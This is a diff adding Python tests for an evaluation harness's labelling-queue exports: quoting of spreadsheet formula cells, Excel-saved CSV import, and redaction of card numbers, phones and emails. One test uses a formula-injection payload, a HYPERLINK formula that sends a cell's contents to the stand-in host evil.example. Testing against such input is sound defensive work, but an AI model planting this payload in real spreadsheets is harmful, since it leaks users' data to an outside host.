@@ -162,6 +162,62 @@ def test_csv_goes_out_and_comes_back(queued, tmp_path):
     assert queue_state(queued)[0] == ("a", "labelled", '{"contains": ["refund"]}', "fail")
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_quoted_and_come_back_as_they_were(store, tmp_path):
+    import csv
+
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [trace("-NfK3xQ", attack, output="@here done"),
+                                                           trace("plain", "'=quoted already", output="-5 degrees")]),
+                kind="production")  # a Firebase push id starts with "-"
+    enqueue(store, [QueuePick("-NfK3xQ", 1, "+ reason", 2.0), QueuePick("plain", 1, "\tindented", 1.0)], run_id="r1")
+    export_queue(store, tmp_path / "q.csv", format="csv")
+    with (tmp_path / "q.csv").open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [(row["trace_id"], row["input"], row["output"], row["reason"]) for row in rows] == [
+        ("'-NfK3xQ", "'" + attack, "'@here done", "'+ reason"),
+        ("plain", "''=quoted already", "'-5 degrees", "'\tindented")]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+    rows[0].update(expected="=2 is not a formula here", notes="'=a note")  # as a spreadsheet saves, and marks, text
+    with (tmp_path / "filled.csv").open("w", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    assert import_labels(store, tmp_path / "filled.csv").applied == 1
+    assert store.one("SELECT trace_id, expected::VARCHAR, notes FROM labelling_queue WHERE state = 'labelled'") == (
+        "-NfK3xQ", '"=2 is not a formula here"', "=a note")
+
+
+def test_a_csv_saved_by_excel_with_a_byte_order_mark_and_cells_past_128_kib_imports(store, tmp_path):
+    import csv
+
+    listing = json.dumps([{"order": f"W{n:07d}", "status": "delivered"} for n in range(4000)])  # ~160 KB
+    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [trace("a", "list all my orders", steps=[
+        {"type": "tool_call", "name": "list_orders", "arguments": {}, "result": listing}])]), kind="production")
+    enqueue(store, [QueuePick("a", 1, "cluster 1", 1.0)], run_id="r1")
+    export_queue(store, tmp_path / "q.csv", format="csv")
+    default = csv.field_size_limit(2**31 - 1)  # to read the export here
+    try:
+        with (tmp_path / "q.csv").open(newline="", encoding="utf-8") as handle:
+            [row] = list(csv.DictReader(handle))
+        row["expected"] = "lists them"
+        with (tmp_path / "excel.csv").open("w", newline="", encoding="utf-8-sig") as handle:  # "CSV UTF-8"
+            writer = csv.DictWriter(handle, fieldnames=list(row))
+            writer.writeheader()
+            writer.writerow(row)
+        csv.field_size_limit(128 * 1024)  # the csv module's default, as a fresh process has it
+        report = import_labels(store, tmp_path / "excel.csv")
+    finally:
+        csv.field_size_limit(default)
+    assert (report.applied, report.refused) == (1, [])
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'tis", "plain", ""])
+def test_an_inert_csv_cell_reads_back_as_the_value_it_was(value):
+    from harness_evals.label.queue import as_inert_cell, from_inert_cell
+
+    assert from_inert_cell(as_inert_cell(value)) == value
+
+
 def test_label_studio_tasks_go_out_and_its_export_comes_back(queued, tmp_path):
     export_queue(queued, tmp_path / "tasks.json", format="labelstudio")
     tasks = json.loads((tmp_path / "tasks.json").read_text())
@@ -197,6 +253,31 @@ def test_the_export_is_redacted_with_placeholders_consistent_across_fields(store
     )
     assert [turn["text"] for turn in item["conversation"]] == [item["input"], item["output"]]  # numbered alike
     assert store.one("SELECT input FROM traces")[0].startswith("refund to ana@example.com")  # raw stays in the store
+
+
+def test_numbers_keys_and_quoted_errors_are_redacted_in_every_export_format(store, tmp_path):
+    error = ("Error: the payment could not be completed because the account on file was locked by fraud review "
+             "for customer jane.doe@example.com")  # the email starts before character 120 and ends after it
+    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [trace(
+        "p", "charge my card", output="Your payment has been processed.",
+        steps=[{"type": "tool_call", "name": "find_users", "arguments": {"q": "acct 9"},
+                "result": {"ana@example.com": {"role": "owner"}}},
+               {"type": "tool_call", "name": "charge", "arguments": {"card": 4111111111111111, "phone": 14155552671},
+                "error": error}],
+        messages=[{"role": "user", "content": "charge my card"},
+                  {"role": "assistant", "content": "", "tool_calls": [{"id": "c1", "type": "function", "function": {
+                      "name": "charge", "arguments": '{"card": 4111111111111111}'}}]},
+                  {"role": "tool", "tool_call_id": "c1", "content": error},
+                  {"role": "assistant", "content": "Your payment has been processed."}])]), kind="production")
+    enqueue(store, [QueuePick("p", -1, "noise", 1.0)], run_id="r1")
+    for format in ("jsonl", "csv", "labelstudio"):
+        export_queue(store, tmp_path / f"q.{format}", format=format)
+        text = (tmp_path / f"q.{format}").read_text()
+        assert [raw for raw in ("4111111111111111", "14155552671", "ana@", "jane.doe") if raw in text] == [], format
+    item = json.loads((tmp_path / "q.jsonl").read_text())
+    assert item["steps"][0]["result"] == {"<EMAIL_2>": {"role": "owner"}}  # jane, in the conversation, is 1
+    assert item["steps"][1]["arguments"] == {"card": "<CARD_1>", "phone": "<PHONE_1>"}
+    assert item["suggested_from"]["not_contains"]["has been processed"].endswith("for customer <EMAIL_1>")
 
 
 label_values = st.recursive(
